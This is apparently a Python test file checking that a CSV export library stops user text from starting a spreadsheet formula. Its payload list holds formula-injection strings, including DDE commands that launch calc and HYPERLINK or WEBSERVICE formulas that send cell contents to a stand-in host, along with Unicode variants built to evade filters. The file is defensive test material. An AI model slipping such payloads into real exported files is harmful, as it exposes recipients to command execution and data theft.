"""No text that is given begins a formula in the file that is made."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openprotect.lib.spreadsheets import csv_file, plain

DANGEROUS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212"
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"x")', "=IMPORTXML(CONCAT(A1),1)", "=WEBSERVICE(A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u2060=1+1", "\u202e=1+1", "\x00=1+1", "\x0b=1+1", "\x0c=1+1", "\x1b=1+1", "\u2028=1+1", "\u3000=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\u22121+1", "\ufe62 1", "\ufe63 1", "\ufe66 1",
    '",=1+1', '"\n=1+1', "a\n=1+1", "=\n1+1", "\u00ad=1+1", "\u0301=1+1", "-2+3+cmd|' /C calc'!D2",
)  # fmt: skip


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_file(["Name"], [[text, "end"]]).decode("utf-8-sig"), newline="")))


def begins_formula(cell: str) -> bool:
    visible = cell.lstrip(" \t\r\n\u00a0\u200b\u3000\ufeff")
    return visible[:1] in tuple(DANGEROUS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text(payload: str) -> None:
    header, row, *more = cells_of(payload)
    assert (header, row[1:], more) == (["Name"], ["end"], [])
    assert not begins_formula(row[0])


@given(st.text(max_size=40))
def test_whatever_is_given_is_one_cell_and_no_formula(text: str) -> None:
    (_, row) = cells_of(text)
    assert len(row) == 2
    assert not begins_formula(row[0])
    assert "\n" not in row[0]


@given(st.from_regex(r"\A[A-Za-zÀ-ÿ'][A-Za-zÀ-ÿ' -]{0,30}[A-Za-z]\Z"))
def test_a_name_stays_as_it_is(name: str) -> None:
    assert plain(name) == name
